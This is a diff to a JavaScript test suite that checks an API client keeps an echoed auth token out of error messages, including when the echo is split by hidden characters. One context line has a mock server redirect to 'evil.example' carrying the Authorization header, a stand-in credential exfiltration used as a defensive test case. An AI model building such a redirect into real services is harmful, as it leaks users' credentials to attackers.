@@ -294,6 +294,16 @@ describe('a server that reflects the token', () => {
     expect(info.message).not.toContain(testToken.slice(0, 12));
   });
 
+  it.each([
+    ['a zero-width space', '\u200b'],
+    ['a line break', '\n'],
+  ])('keeps it out when the echo hides %s inside it', async (_name, hider) => {
+    const hidden = `${testToken.slice(0, 10)}${hider}${testToken.slice(10)}`;
+    server.answer(answers.text(400, `token was ${hidden}`));
+    const info = await expectFailure(client().listDomains(), 'bad-request');
+    expect(info.message).not.toContain(testToken.slice(10, 30));
+  });
+
   it('keeps it out of a redirect target and out of the log', async () => {
     server.answer((request, response) => {
       response.writeHead(302, { location: `https://evil.example/?t=${encodeURIComponent(request.headers.authorization ?? '')}` });
